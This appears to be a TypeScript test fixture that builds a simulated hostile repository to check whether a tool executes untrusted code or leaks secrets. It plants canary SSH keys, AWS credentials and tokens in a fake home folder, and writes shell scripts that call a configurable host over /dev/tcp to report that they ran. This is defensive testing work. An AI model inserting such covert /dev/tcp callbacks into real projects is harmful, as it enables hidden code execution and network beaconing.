import { chmodSync, existsSync, mkdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { git } from '../../src/docs/sources/sources.fixture.ts'
import { fileTraits } from './hostile-files.fixture.ts'
import { gitTraits } from './hostile-git.fixture.ts'
import { canaries, type Ground, write } from './hostile-ground.fixture.ts'
import { projectTraits } from './hostile-project.fixture.ts'

const traits = { ...gitTraits, ...fileTraits, ...projectTraits }
const names = Object.keys(traits)

/** A clone of a stranger's repository, in the home of a person who has something to lose. */
export interface HostileRepository {
  readonly folder: string
  readonly home: string
  readonly traits: readonly string[]
  /** Names of the programs of the repository that ran. */
  ran(): readonly string[]
}

/** Numbers that are the same for the same seed. */
function numbers(seed: number): (most: number) => number {
  let at = seed
  return (most) => {
    at = (Math.imul(at, 1_664_525) + 1_013_904_223) >>> 0
    return Math.floor((at / 2 ** 32) * most)
  }
}

/**
 * Makes a repository in an empty folder, below `root`, with one to six hostile traits; of neighbouring numbers every trait comes up. Without a number it has
 * none; a name in place of one is that trait alone. Whatever asks `host` is told of there.
 */
export function hostileRepository(root: string, host: string, which?: number | string): HostileRepository {
  const [home, folder, beside, marks] = ['home', 'clone', 'beside', 'marks'].map((name) => join(root, name)) as [
    string,
    string,
    string,
    string,
  ]
  for (const each of [home, folder, beside, marks]) mkdirSync(each, { recursive: true })
  // Anybody may leave a mark.
  chmodSync(marks, 0o777)
  const mark = join(marks, 'ran')
  personsThings(home)
  harmless(folder)
  const below = numbers((typeof which === 'number' ? which : 0) * 7_919 + 11)
  const program = (name: string): string => {
    const path = `tools/${name}.sh`
    const knock = `exec 3<>/dev/tcp/${host.replace(':', '/')}; printf 'GET /ran-${name} HTTP/1.0\\r\\n\\r\\n' >&3`
    write(
      { folder },
      { [path]: `#!/bin/sh\necho ${name} >> ${mark}\nbash -c "${knock}" 2>/dev/null\necho ran by the repository: $((40 + 2))\n` },
    )
    chmodSync(join(folder, path), 0o755)
    return join(folder, path)
  }
  const ground: Ground = { folder, home, beside, host, program, below }
  const chosen = which === undefined ? [] : typeof which === 'string' ? [which] : chosenTraits(which, below)
  for (const name of chosen) traits[name]?.(ground)
  return { folder, home, traits: chosen, ran: () => (existsSync(mark) ? readFileSync(mark, 'utf8').trim().split('\n') : []) }
}

/** The first of a repository goes round all of them. */
function chosenTraits(number: number, below: (most: number) => number): readonly string[] {
  const chosen = new Set([names[(number * 11) % names.length]!])
  for (let more = below(6); more > 0; more--) chosen.add(names[below(names.length)]!)
  return [...chosen]
}

function personsThings(home: string): void {
  write(
    { folder: home },
    {
      '.ssh/id_rsa': `-----BEGIN OPENSSH PRIVATE KEY-----\n${canaries.home}\n`,
      '.aws/credentials': `[default]\naws_secret_access_key = ${canaries.home}\n`,
      '.env': `TOKEN=${canaries.home}\n`,
      'private/notes.md': `# Ferry\n\nThe ferry, ${canaries.home}.\n`,
      'private/repository/notes.md': `# Ferry\n\nThe ferry, ${canaries.home}.\n`,
    },
  )
  const repository = join(home, 'private/repository')
  git(repository, 'init', '--quiet')
  git(repository, 'add', '--all')
  git(repository, 'commit', '--quiet', '-m', canaries.home)
}

function harmless(folder: string): void {
  write(
    { folder },
    {
      'README.md': '# Ferry\n\nRead me.\n',
      'docs/ferry.md': '# Ferry\n\nThe ferry to Lunz leaves at noon.\n',
      'src/a.ts': 'export const a = 1\n',
      'package.json': '{ "name": "sample", "scripts": { "test": "true" } }\n',
      'context.json': '{ "collections": { "docs": { "url": "./docs" } } }\n',
      '.gitignore': '.env\n',
    },
  )
  git(folder, 'init', '--quiet')
  git(folder, 'add', '--all')
  git(folder, 'commit', '--quiet', '-m', 'first')
  write({ folder }, { '.env': `TOKEN=${canaries.env}\n`, 'src/a.ts': 'export const a = 2\n' })
}
